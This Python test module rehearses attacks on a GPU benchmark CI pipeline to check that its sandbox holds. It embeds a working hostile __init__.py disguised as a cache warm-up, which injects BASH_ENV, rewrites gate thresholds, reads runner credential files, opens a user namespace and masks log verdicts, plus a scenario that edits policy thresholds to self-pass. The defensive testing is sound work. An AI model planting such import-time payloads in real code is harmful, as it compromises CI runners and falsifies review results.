"""The rehearsal's scenarios: the PR each makes (a no-op, the planted 2x slowdown, the plant with the
harness edited to pass itself, the plant with a hostile ``nf4kernel/__init__.py``) or a push to
main, what each expects of every job and of the commit status, and the check of a run against it.
"""

from __future__ import annotations

import ast
import functools
import json
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from dev.rehearsal import attacks
from dev.rehearsal.rehearsal_world import Run, World, git
from harness.core.paths import ROOT

PLANT_2X = ROOT / "dev" / "rehearsal" / "plants" / "2x.patch"


def no_change(tree: Path) -> str:
    return "scratch: a no-op PR"


def plant_2x(tree: Path) -> str:
    subprocess.run(["git", "apply", str(PLANT_2X)], cwd=tree, check=True)
    return "scratch: every planned launch made twice (a planted 2x slowdown)"


def plant_and_pass_myself(tree: Path) -> str:
    """The plant, and every edit a PR could make so that its *own* harness passes it: the policy
    file's thresholds and limits (every GPU type's threshold too)."""
    plant_2x(tree)
    name = ".github/gpu-types.toml"
    edits = [
        (r"(?m)^gate_threshold = [0-9.]+", "gate_threshold = 0.5"),
        (r"(?m)^threshold = [0-9.]+", "threshold = 0.5"),
        (r"(?m)^min_change = [0-9.]+", "min_change = 0.99"),
        (r"(?m)^min_group_change = [0-9.]+", "min_group_change = 0.99"),
    ]
    path = tree / name
    text = path.read_text()
    for pattern, new in edits:
        text, count = re.subn(pattern, new, text)
        if not count:
            raise RuntimeError(f"self-pass: {pattern!r} is no longer in {name}; update the scenario")
    path.write_text(text)
    (tree / "base-gate.json").mkdir()  # a directory where a record once was read from
    (tree / "base-gate.json" / "keep").write_text("")
    (tree / "gate.json").write_text(json.dumps({"environment": {"cuda": True}, "verdict": {"passed": True}}))
    return "scratch: the 2x plant, and the harness edited to pass it (thresholds, limits)"


# The words the hostile kernel masks in the job's log: the verdicts' own, which a maintainer reads.
MASKED = ("FAIL", "slower")
ANNOTATION = "an annotation from the kernel under test"
# The routes from an approved kernel's import to the verdict or the runner, as a PR would hide them:
# lines named like a cache warm-up, at the top of nf4kernel/__init__.py. Three write (a script every
# later step sources, the trusted harness's thresholds, the other kernel's staged copy); three read
# or regain (the runner's own files, found above any folder the sandbox hides, and the job's $TMPDIR
# where the other kernel is staged; a nested user namespace with every capability, and a mount in
# it); one speaks to the runner (workflow commands on the log: a mask over the verdict's words).
# Each fails silently where it can't act, so the kernel still imports and measures (with the 2x
# plant: slower); a route that worked prints ROUTE-OPEN, which the rehearsal's check looks for.
HOSTILE_INIT = """\
def _warm_autotune_cache():  # looks like a cache warm-up; is every route to the verdict and the runner
    import ctypes, glob, os, re, sys, tempfile
    temp = os.environ.get("RUNNER_TEMP", "")
    try:  # 1. every later step of the job sources a script of ours (here: it says so)
        script = os.path.join(temp, "autotune-warm.sh")
        with open(script, "w") as f:
            f.write('echo "ROUTE-OPEN BASH_ENV: a later step sourced the kernel\\'s script" >&2\\n')
        with open(os.environ["GITHUB_ENV"], "a") as f:
            f.write(f"BASH_ENV={script}\\n")
    except Exception:
        pass
    for entry in sys.path:  # 2. the trusted harness's policy and rules, where it is importable
        for name, pattern, value in ((".github/gpu-types.toml", r"threshold = [0-9.]+", "threshold = 0.01"),
                                     ("harness/gate/decision.py", r"THRESHOLD = [0-9.]+", "THRESHOLD = 0.01"),
                                     ("harness/regression/rule.py", r"MIN_CHANGE = [0-9.]+", "MIN_CHANGE = 0.99")):
            try:
                path = os.path.join(entry, *name.split("/"))
                text = open(path).read()
                open(path, "w").write(re.sub(pattern, value, text))
            except Exception:
                pass
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for other in glob.glob(os.path.join(tempfile.gettempdir(), "nf4kernel-*", "nf4kernel", "__init__.py")):
        if not other.startswith(here):  # 3. the other kernel's staged copy, made slower
            try:
                open(other, "a").write("\\nimport time as _t; _t.sleep(0.001)\\n")
            except Exception:
                pass
    try:  # 4. the runner's credentials: its folder holds the workspace, above where this runs
        places = [line.split()[4] for line in open("/proc/self/mountinfo")]
    except Exception:
        places = []
    seen = set()
    for place in [os.getcwd(), here, *places, "/runner", "/home/runner", *glob.glob("/srv/*/runner")]:
        while place not in seen and place not in ("", "/"):
            seen.add(place)
            for name in (".credentials", ".credentials_rsaparams", ".runner"):
                try:
                    text = open(os.path.join(place, name)).read()[:80]
                    print("ROUTE-OPEN runner file", os.path.join(place, name), text, file=sys.stderr)
                except Exception:
                    pass
            place = os.path.dirname(place)
    for other in glob.glob("/srv/*/tmp/nf4kernel-*/nf4kernel") + glob.glob("/var/tmp/*/tmp/nf4kernel-*/nf4kernel"):
        if not other.startswith(here):  # 5. the job's $TMPDIR, where the other kernel is staged
            print("ROUTE-OPEN the job's TMPDIR holds", other, file=sys.stderr)
    pid = os.fork()  # 6. a nested user namespace (one thread: the child of a fork)
    if pid == 0:
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                caps = [line for line in open("/proc/self/status") if line.startswith("CapEff")][0].split()[1]
                mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
                print("ROUTE-OPEN nested user namespace: CapEff", caps, "tmpfs mounted", mounted, file=sys.stderr)
        finally:
            sys.stderr.flush()
            os._exit(0)
    os.waitpid(pid, 0)
    for word in MASKED_WORDS:  # 7. workflow commands: the verdict's words masked in every later line
        print(f"::add-mask::{word}", file=sys.stderr)
    print("::error title=nf4kernel::ANNOTATION", file=sys.stderr)
    sys.stderr.flush()


_warm_autotune_cache()
""".replace("MASKED_WORDS", repr(MASKED)).replace("ANNOTATION", ANNOTATION)


def plant_hostile(tree: Path) -> str:
    """The 2x plant, and an ``__init__.py`` that takes every route to the verdict it can reach."""
    plant_2x(tree)
    init = tree / "nf4kernel" / "__init__.py"
    text = init.read_text()
    body = ast.parse(text).body  # after the module's docstring
    cut = sum(len(line) for line in text.splitlines(keepends=True)[: body[0].end_lineno]) if body else 0
    init.write_text(text[:cut] + "\n" + HOSTILE_INIT + text[cut:])
    return "scratch: the 2x plant, and an __init__.py that warms an autotune cache"


@dataclass(frozen=True)
class Scenario:
    about: str
    change: Callable | None  # the PR's commit; None: a push to main
    expect: dict  # job id -> result it must have ("" : must not have run)
    status: str | None  # the `gpu` status report must post, None: no status
    unmasked: tuple[str, ...] = ()  # words the log must show as they are


PR_JOBS = ("approve", "gpu-tests", "gate", "regression", "report")
SCENARIOS = {
    "noop": Scenario(
        "a no-op PR: every job green, status success",
        no_change,
        {"approve": "success", "gpu-tests": "success", "gate": "success", "regression": "success", "report": "success"},
        "success",
    ),
    "slow": Scenario(
        "a PR with a planted 2x slowdown: the gate and the regression check fail, status failure",
        plant_2x,
        {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
        "failure",
    ),
    "self-pass": Scenario(
        "the 2x plant in a PR that edits the policy file to pass itself: it still fails",
        plant_and_pass_myself,
        {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
        "failure",
    ),
    "hostile": Scenario(
        "the 2x plant in a PR whose nf4kernel/__init__.py, on import, writes BASH_ENV into $GITHUB_ENV, rewrites "
        "the trusted harness's thresholds, slows the base's staged copy, reads the runner's files and the job's "
        "$TMPDIR, opens a nested user namespace and prints workflow commands: sandboxed, none reaches the verdict "
        "or the log",
        plant_hostile,
        {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
        "failure",
        unmasked=MASKED,
    ),
    **{
        f"hostile-{name}": Scenario(
            f"a PR whose nf4kernel/__init__.py carries the {name!r} attack (dev/rehearsal/attacks.py): the "
            "trusted clock and the reference process judge it, so the gate fails and gpu: failure is posted",
            functools.partial(attacks.plant, name=name),
            {"approve": "success", "gate": "failure", "report": "success"},
            "failure",
        )
        for name in attacks.ATTACKS
    },
    "push": Scenario(
        "a push to main: gpu-tests, the gate and the history run; the results branch gains the commit; "
        "main's history is judged for change points (nothing called: no issue)",
        None,
        {
            "approve": "success",
            "gpu-tests": "success",
            "gate": "success",
            "types": "success",
            "benchmark": "success",
            "store": "success",
            "site": "success",
            "changepoints": "success",
        },
        None,
    ),
}


def wrong_checkouts(run: Run, trusted: str, candidate: str) -> list[str]:
    """Every checkout that took another commit than it should: the PR's commit (``candidate/``) must
    be the approved one, everything else (``trusted/``, a push's workspace) the judging commit."""
    problems = []
    for job, path, asked, commit in run.checkouts:
        allowed = candidate if path == "candidate" else trusted
        if commit != allowed:
            problems.append(
                f"job {job} checked out {commit[:12]} into {path} (asked for {asked}); expected {allowed[:12]}"
            )
    return problems


def leaks(scenario: Scenario, run: Run, world: World) -> list[str]:
    """What of the runner, or of a hostile kernel's routes, reached the job's log: the runner's
    credentials (the world's canary), a route that says it worked, a workflow command the runner
    acted on (an annotation, a mask over the verdict's words)."""
    problems = []
    lines = [line for _, line in run.log]
    if any(world.canary in line for line in lines):
        problems.append("the runner's credentials (the world's canary) are in the log")
    problems += [f"a route worked: {line.strip()[:200]}" for line in lines if "ROUTE-OPEN" in line][:3]
    if any("❗" in line and ANNOTATION in line for line in lines):
        problems.append("the runner acted on the kernel's ::error:: command (an annotation)")
    for word in scenario.unmasked:  # a mask acted on shows as *** in place of the word, even in its own command
        shown = [line for line in lines if re.search(rf"\b{word}\b", line)]
        if not any(f"::add-mask::{word}" in line for line in shown) or all("::add-mask::" in line for line in shown):
            problems.append(f"the log does not show {word!r} as it is: masked by the kernel's ::add-mask::")
    return problems


def check(scenario: Scenario, run: Run, world: World, candidate: str) -> list[str]:
    """What did not go as the scenario expects ([] when everything did)."""
    problems = []
    for job, wanted in scenario.expect.items():
        got = run.results.get(job, "")
        if got != wanted:
            problems.append(f"job {job}: {got or 'did not run'}, expected {wanted}")
    posted = [(sha, body["state"]) for sha, body in world.fake.statuses]
    if scenario.status and posted != [(candidate, scenario.status)]:
        problems.append(f"commit status: {posted}, expected [({candidate[:12]}, {scenario.status})]")
    if not scenario.status and posted:
        problems.append(f"a commit status was posted: {posted}")
    summaries = run.summary_text()
    wanted_text = ["### nf4kernel speed gate"]
    if scenario.change is not None:
        wanted_text.append("### Regression check")
    if scenario.status == "success" or scenario.change is None:
        wanted_text.append("```mermaid")
    problems += [f"the step summaries lack {text!r}" for text in wanted_text if text not in summaries]
    problems += wrong_checkouts(run, trusted=world.main, candidate=candidate)
    problems += leaks(scenario, run, world)
    if scenario.change is None:
        stored = git("ls-tree", "-r", "--name-only", "asv-results", cwd=world.origin, check=False)
        if f"{candidate[:8]}-" not in stored:
            problems.append(f"the asv-results branch holds no results for {candidate[:8]}")
        if world.fake.issues:  # one commit's results: there is no earlier level to have left
            problems.append(f"the change-point job opened an issue: {[i.title for i in world.fake.issues.values()]}")
    return problems
